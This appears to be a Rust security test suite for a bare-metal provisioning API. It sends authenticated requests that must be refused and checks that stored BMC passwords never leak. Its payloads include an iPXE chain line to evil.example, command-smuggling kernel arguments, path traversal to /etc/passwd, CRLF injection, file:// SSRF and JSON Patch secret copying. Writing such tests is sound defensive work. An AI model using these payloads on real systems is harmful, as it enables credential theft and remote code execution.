//! What a user with credentials sends to read, redirect or become what it must not.

use anyhow::{Result, ensure};
use futures::FutureExt as _;
use serde_json::{Value, json};

use super::{Attack, Work, raw};

/// A password that no response may have.
const CANARY: &str = "canary-of-a-bmc";

/// The REST API of a rack.
#[derive(Debug, Clone)]
pub struct Api {
    /// Its address.
    pub address: String,
    /// The pid of its service.
    pub pid: i32,
}

/// A request, and what must hold.
#[derive(Debug, Clone, Copy)]
pub enum Sent {
    /// One that is refused, with one of these statuses and these words.
    Refused(&'static str, &'static str, fn() -> Value, &'static [u16], &'static str),
    /// Something else.
    Other(Work<Api>),
}

const fn patch(name: &'static str, source: &'static str, body: fn() -> Value, words: &'static str) -> Attack<Sent> {
    Attack { name, source, how: Sent::Refused("PATCH", "nodes/r1", body, &[400], words) }
}

const fn refused(
    name: &'static str,
    source: &'static str,
    request: (&'static str, &'static str),
    body: fn() -> Value,
    words: &'static str,
) -> Attack<Sent> {
    Attack { name, source, how: Sent::Refused(request.0, request.1, body, &[400, 404], words) }
}

const fn other(name: &'static str, source: &'static str, work: Work<Api>) -> Attack<Sent> {
    Attack { name, source, how: Sent::Other(work) }
}

fn add(path: &str, value: impl Into<Value>) -> Value {
    json!([{"op": "add", "path": path, "value": value.into()}])
}

/// The attacks.
pub const TABLE: &[Attack<Sent>] = &[
    patch(
        "The stored password is sent to another address",
        "ISSUES-SEEN §6",
        || add("/driver_info/redfish_address", "https://198.51.100.66"),
        "redfish_password",
    ),
    patch(
        "The stored password is sent to a BMC whose certificate is not checked",
        "ISSUES-SEEN §6",
        || add("/driver_info/redfish_verify_ca", false),
        "redfish_password",
    ),
    refused(
        "The stored password is sent to another port",
        "ISSUES-SEEN §6",
        ("PATCH", "nodes/i1"),
        || add("/driver_info/ipmi_port", 700),
        "ipmi_password",
    ),
    patch(
        "A trusted CA is an endless device",
        "ISSUES-SEEN §6, CWE-73",
        || add("/driver_info/redfish_verify_ca", "/dev/zero"),
        "redfish_verify_ca",
    ),
    patch(
        "A trusted CA is a file outside of its folder",
        "CWE-22",
        || add("/driver_info/redfish_verify_ca", "../../etc/passwd"),
        "redfish_verify_ca",
    ),
    patch(
        "Kernel arguments have a line of iPXE",
        "ISSUES-SEEN §6",
        || add("/driver_info/kernel_append_params", "quiet\nchain http://evil.example/"),
        "kernel_append_params",
    ),
    patch(
        "Kernel arguments of an instance have a carriage return",
        "CWE-93",
        || add("/instance_info/kernel_append_params", "quiet\rshell"),
        "kernel_append_params",
    ),
    patch(
        "Kernel arguments have a variable of iPXE",
        "ipxe.org/cfg",
        || add("/driver_info/kernel_append_params", "x=${net0/mac}"),
        "kernel_append_params",
    ),
    patch(
        "Kernel arguments have another command of iPXE",
        "ipxe.org/scripting",
        || add("/driver_info/kernel_append_params", "quiet || shell"),
        "kernel_append_params",
    ),
    patch(
        "Kernel arguments have a quote that is not closed",
        "GRUB manual §3.3",
        || add("/driver_info/kernel_append_params", "x=\"y"),
        "kernel_append_params",
    ),
    patch(
        "A secret is compared by a patch",
        "RFC 6902 §4.6",
        || json!([{"op": "test", "path": "/driver_info/redfish_password", "value": CANARY}]),
        "test",
    ),
    patch(
        "A secret is copied to where it is shown",
        "RFC 6902 §4.5",
        || json!([{"op": "copy", "from": "/driver_info/redfish_password", "path": "/extra/x"}]),
        "from",
    ),
    patch(
        "A patch doubles a document 30 times",
        "billion laughs, RFC 6902 §4.5",
        || {
            let copies = (0..30).map(|_| json!({"op": "copy", "from": "/extra/a", "path": "/extra/a/-"}));
            let first = json!({"op": "add", "path": "/extra/a", "value": vec!["x"; 1000]});
            Value::Array(std::iter::once(first).chain(copies).collect())
        },
        "from",
    ),
    patch(
        "A patch replaces the whole document",
        "RFC 6902 §4.3",
        || json!([{"op": "replace", "path": "", "value": {}}]),
        "patch",
    ),
    patch(
        "A patch sets the state",
        "CWE-915, mass assignment",
        || add("/provision_state", "active"),
        "provision_state",
    ),
    patch(
        "A patch sets the agent's token",
        "CWE-915, mass assignment",
        || add("/driver_internal_info/agent_secret_token", "x"),
        "driver_internal_info",
    ),
    patch(
        "A patch sets the id",
        "CWE-915, mass assignment",
        || add("/uuid", "11111111-1111-4111-8111-111111111111"),
        "uuid",
    ),
    patch("A name has a line break", "CWE-117", || add("/name", "a\r\nSet-Cookie: x=y"), "name"),
    patch("A name is a word of the API's paths", "Ironic API", || add("/name", "detail"), "reserved"),
    refused("A trait has a line break", "CWE-93", ("PUT", "nodes/r1/traits/CUSTOM_A%0d%0aB"), || json!({}), "trait"),
    refused("A list is sorted by a secret", "CWE-203", ("GET", "nodes?sort_key=driver_info"), || Value::Null, "sort"),
    refused(
        "A list begins behind a path",
        "CWE-22",
        ("GET", "nodes?marker=../../etc/passwd"),
        || Value::Null,
        "marker",
    ),
    refused(
        "A webhook's receiver is a file",
        "CWE-918",
        ("POST", "webhooks"),
        || json!({"name": "w1", "url": "file:///etc/passwd", "delivery_info": {"secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}}),
        "must begin with",
    ),
    refused(
        "A password has the form of a sealed one",
        "ISSUES-SEEN §6",
        ("PATCH", "nodes/i1"),
        || {
            let sealed = json!({"key": "0123456789abcdef", "sealed": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"});
            add("/driver_info/ipmi_password", json!({"sealed": sealed}))
        },
        "shape of a sealed one",
    ),
    other("Of two equal keys one is checked and the other one used", "RFC 8259 §4", |api| {
        equal_keys(api).boxed_local()
    }),
    other("A header asks for another method", "X-HTTP-Method-Override", |api| other_method(api).boxed_local()),
    other("A list asks for each field that may hold a secret", "CWE-200", |api| shown(api).boxed_local()),
    other("Names of users are found by the work of a refusal", "ISSUES-SEEN §6, CWE-208", |api| {
        work(api).boxed_local()
    }),
];

/// Makes a call of a user with credentials.
///
/// # Errors
/// The service does not answer.
pub async fn ask(api: &Api, method: &str, path: &str, fields: &str, body: &str) -> Result<raw::Exchange> {
    let head =
        format!("{method} /v1/{path} HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: {}\r\n", body.len());
    let request = format!("{head}Content-Type: application/json\r\n{}{fields}\r\n{body}", raw::as_user("ann"));
    raw::exchange(&api.address, request.as_bytes()).await
}

/// Makes the nodes of the attacks: `r1` with a Redfish BMC and `i1` with an IPMI BMC.
///
/// # Errors
/// They are refused.
pub async fn prepare(api: &Api) -> Result<()> {
    for body in [
        json!({"driver": "redfish", "name": "r1", "driver_info": {
            "redfish_address": "https://198.51.100.9", "redfish_username": "u", "redfish_password": CANARY,
            "redfish_system_id": "/redfish/v1/Systems/1"}}),
        json!({"driver": "ipmi", "name": "i1", "driver_info": {
            "ipmi_address": "198.51.100.9", "ipmi_username": "u", "ipmi_password": CANARY}}),
    ] {
        let answer = ask(api, "POST", "nodes", "", &body.to_string()).await?;
        ensure!(answer.statuses == [201], "{}", answer.text);
    }
    Ok(())
}

/// Sends the request of a row.
///
/// # Errors
/// What did not hold.
pub async fn carry_out(api: &Api, sent: &Sent) -> Result<String> {
    match sent {
        Sent::Refused(method, path, body, statuses, words) => {
            let body = body();
            let body = if body.is_null() { String::new() } else { body.to_string() };
            let answer = ask(api, method, path, "", &body).await?;
            let is_refused = matches!(answer.statuses.as_slice(), [status] if statuses.contains(status));
            ensure!(is_refused && answer.text.contains(words), "not refused for {words:?}: {}", answer.text);
            Ok(format!("{:?}", answer.statuses))
        }
        Sent::Other(work) => work(api).await,
    }
}

async fn equal_keys(api: &Api) -> Result<String> {
    let body = r#"{"driver": "fake-hardware", "name": "first", "name": "a name with blanks"}"#;
    let answer = ask(api, "POST", "nodes", "", body).await?;
    ensure!(answer.statuses == [400], "the name that is used is not the one that was checked: {}", answer.text);
    let body = r#"{"driver": "fake-hardware", "name": "a name with blanks", "name": "second"}"#;
    let answer = ask(api, "POST", "nodes", "", body).await?;
    ensure!(answer.statuses == [201] && answer.text.contains("\"name\":\"second\""), "{}", answer.text);
    let answer = ask(api, "GET", "nodes", "", "").await?;
    ensure!(!answer.text.contains("first") && !answer.text.contains("blanks"), "{}", answer.text);
    Ok("the last one is checked and used".to_owned())
}

async fn other_method(api: &Api) -> Result<String> {
    for field in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"] {
        ask(api, "GET", "nodes/r1?_method=DELETE", &format!("{field}: DELETE\r\n"), "").await?;
        ask(api, "POST", "nodes/r1", &format!("{field}: DELETE\r\n"), "").await?;
        let answer = ask(api, "GET", "nodes/r1", "", "").await?;
        ensure!(answer.statuses == [200], "the node was deleted by {field}: {}", answer.text);
    }
    Ok("the node is still there".to_owned())
}

async fn shown(api: &Api) -> Result<String> {
    let paths = [
        "nodes/detail",
        "nodes/r1",
        "nodes/i1",
        "nodes?fields=driver_info",
        "nodes/r1?fields=driver_info,extra",
        "nodes/r1/validate",
    ];
    for path in paths {
        let answer = ask(api, "GET", path, "", "").await?;
        ensure!(answer.statuses == [200] && !answer.text.contains(CANARY), "{path}: {}", answer.text);
    }
    Ok(format!("{} responses without it", paths.len()))
}

/// Processor time of all threads of a process, in nanoseconds (proc(5), `schedstat`).
fn processor_time(pid: i32) -> Result<u64> {
    let threads = std::fs::read_dir(format!("/proc/{pid}/task"))?;
    let spent = threads.filter_map(|thread| std::fs::read_to_string(thread.ok()?.path().join("schedstat")).ok());
    Ok(spent.filter_map(|text| text.split_whitespace().next()?.parse::<u64>().ok()).sum())
}

/// Compares what refusing a known name costs the service with what refusing an unknown one costs it.
async fn work(api: &Api) -> Result<String> {
    use base64::prelude::{BASE64_STANDARD, Engine as _};
    const REQUESTS: usize = 20;
    let refuse = async |name: &str| -> Result<u64> {
        let before = processor_time(api.pid)?;
        for number in 0..REQUESTS {
            let credentials = BASE64_STANDARD.encode(format!("{name}:wrong-{number}"));
            let request = format!(
                "GET /v1/nodes HTTP/1.1\r\nHost: h\r\nConnection: close\r\nAuthorization: Basic {credentials}\r\n\r\n"
            );
            let answer = raw::exchange(&api.address, request.as_bytes()).await?;
            ensure!(answer.statuses == [401], "{}", answer.text);
        }
        Ok(processor_time(api.pid)?.saturating_sub(before).max(1))
    };
    let (mut known, mut unknown) = (u64::MAX, u64::MAX);
    // Other work of the process only adds: the least of several is closest to the work itself.
    for _ in 0..5 {
        known = known.min(refuse("ann").await?);
        unknown = unknown.min(refuse("eve").await?);
    }
    let (less, more) = (known.min(unknown), known.max(unknown));
    ensure!(more < less * 4, "20 refusals of a known name take {known} ns, and of an unknown one {unknown} ns");
    Ok(format!("{} µs for a known name, {} µs for an unknown one", known / 20_000, unknown / 20_000))
}
